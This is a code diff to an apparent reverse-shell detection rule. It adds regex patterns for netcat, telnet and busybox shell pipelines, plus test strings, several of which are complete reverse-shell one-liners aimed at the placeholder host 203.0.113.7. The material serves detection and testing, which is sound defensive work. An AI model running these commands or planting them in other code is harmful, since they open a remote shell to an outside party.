@@ -43,6 +43,11 @@ export const rule: Rule = {
       window: 300,
       accept: isComplete,
     },
+    // As a list of arguments: ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]
+    {
+      re: /["'](?:\/[\w./-]*\/)?(?:nc|ncat|netcat)\\?["']\s?,[^\n]*["'](?:-\w*[ec]|--exec|--sh-exec)\\?["']\s?,\s?\\?["'](?:\/[\w./-]*\/)?\w{0,3}sh(?![\w.-])/,
+      window: 200,
+    },
     { re: /mkfifo\s+\S[^\n]*[^\w-](?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s/, window: 400 },
     { re: /mknod\s+\S+\s+p[^\n]*[^\w-](?:nc|ncat|telnet)\s/, window: 400 },
     {
@@ -52,7 +57,7 @@ export const rule: Rule = {
     },
     { re: /(?<![\w-])ztcp\s+(?:-\w+\s+)*[\w.$-]+\s+[\d$]/ },
     {
-      re: /(?<![\w-])(?:telnet|nc|ncat|netcat|nc\.(?:openbsd|traditional))\s(?:[^\n|;&]|[<>]&)*[\d$](?:[^\n|;&]|[<>]&)*\|\s*(?:\/[\w./-]*\/)?(?:env\s+)?(?:(?:ba|z|k|da|a|b|c|tc|mk|fi|pdk|rba|pw)?sh|powershell)(?![\w.-])/,
+      re: /(?<![\w-])(?:telnet|nc|ncat|netcat|nc\.(?:openbsd|traditional))\s(?:[^\n|;&]|[<>]&)*[\d$](?:[^\n|;&]|[<>]&)*\|\s*(?:\/[\w./-]*\/)?(?:(?:env|busybox)\s+)?(?:(?:ba|z|k|da|a|b|c|tc|mk|fi|pdk|rba|pw)?sh|powershell)(?![\w.-])/,
       window: 300,
     },
     { re: /(?<![\w.-])telnetd\s[^\n;|&]*-l\s*(?:\/(?:usr\/)?bin\/)?\w{0,3}sh(?![\w-])/, window: 120 },
@@ -81,6 +86,8 @@ export const rule: Rule = {
       'nc 203.0.113.7 4444 -e /bin/sh',
       'busybox nc 203.0.113.7 4444 -e bash',
       'nc -c /bin/bash 203.0.113.7 4444',
+      'subprocess.run(["nc", "203.0.113.7", "4444", "-e", "/bin/sh"])',
+      'busybox telnet 203.0.113.7 4444 | busybox sh',
       'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 203.0.113.7 4444 >/tmp/f',
       'telnet 203.0.113.7 4444 0<$TF | sh 1>$TF',
       'nc.openbsd 203.0.113.7 4444 </tmp/p | /bin/sh >/tmp/p',
@@ -98,6 +105,7 @@ export const rule: Rule = {
       'socat tcp-l:8080,reuseaddr,fork exec:"answer.sh",nofork',
       'until printf "" 2>>/dev/null >>/dev/tcp/127.0.0.1/6443; do sleep 1; done',
       'nc -zv host.example 443',
+      'subprocess.run(["nc", "-z", "db", "5432"]); subprocess.run(["sh", "-e", "steps.sh"])',
       '| telnet | ssh |\n| nc | bash |',
       'nc -z db 5432 || sh fallback.sh',
       'nc -z db 5432 && cat steps | sh',
